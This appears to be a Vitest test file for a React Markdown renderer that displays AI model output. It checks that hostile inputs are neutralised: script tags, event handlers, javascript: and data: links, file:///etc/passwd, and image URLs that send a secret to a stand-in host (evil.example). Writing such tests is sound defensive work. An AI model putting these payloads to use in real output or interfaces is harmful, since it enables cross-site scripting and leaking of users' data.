import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";
import { Markdown } from "./Markdown";

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

describe("Markdown of a hostile model", () => {
  it.each([
    "<script>alert(1)</script>",
    "<img src=https://evil.example/?q=secret>",
    '<iframe src="https://evil.example"></iframe>',
    '<div onclick="x()">hello</div>',
    "text <b onmouseover=alert(1)>bold</b> text",
    "<style>body{display:none}</style>",
    "<svg/onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
  ])("shows HTML as the text it is: %s", (text) => {
    expect(html(text)).not.toMatch(/<(script|img|iframe|style|b|svg\/)[\s>]|<div on/i);
  });

  it.each([
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a.png)](https://evil.example)",
    "![x](data:image/svg+xml,<svg/>)",
    "| a |\n|---|\n| ![x](//evil.example/a) |",
  ])("loads no image: %s", (text) => {
    const out = html(text);
    expect(out).not.toContain("<img");
    expect(out).not.toMatch(/(src|srcset|background|poster)=/);
    expect(out).toContain("Image not loaded");
  });

  it.each([
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](/api/delete)",
    "[x](//evil.example)",
    "[x](#/privacy)",
    "[x][nowhere]",
    "<javascript:alert(1)>",
  ])("makes no link of %s", (text) => {
    expect(html(text)).not.toContain("<a ");
  });

  it("gives links that lead away no hold on the app", () => {
    const out = html("[there](https://example.org/a?b=c)");
    expect(out).toContain('href="https://example.org/a?b=c"');
    expect(out).toContain('rel="noopener noreferrer nofollow"');
    expect(out).toContain('target="_blank"');
  });
});

describe("Markdown", () => {
  it("draws what models write", () => {
    const out = html(
      "# Head\n\n**bold** and `code`\n\n- one\n- two\n\n3. three\n\n| a | b |\n|--:|---|\n| 1 | 2 |\n\n> said",
    );
    for (const part of [
      "<h3>Head</h3>",
      "<strong>bold</strong>",
      "<code>code</code>",
      "<ul>",
      '<ol start="3">',
      "<blockquote>",
    ]) {
      expect(out).toContain(part);
    }
    expect(out).toContain('<td class="cell-right">1</td>');
  });

  it("shows a code block that is not finished yet", () => {
    const out = html("```python\nx = 1");
    expect(out).toContain("<pre");
    expect(out).toContain("python");
  });

  it("keeps the text of code as it was", () => {
    expect(html('```\n<a href="x"> & \'\n```')).toContain("&gt; &amp; &#x27;");
  });
});
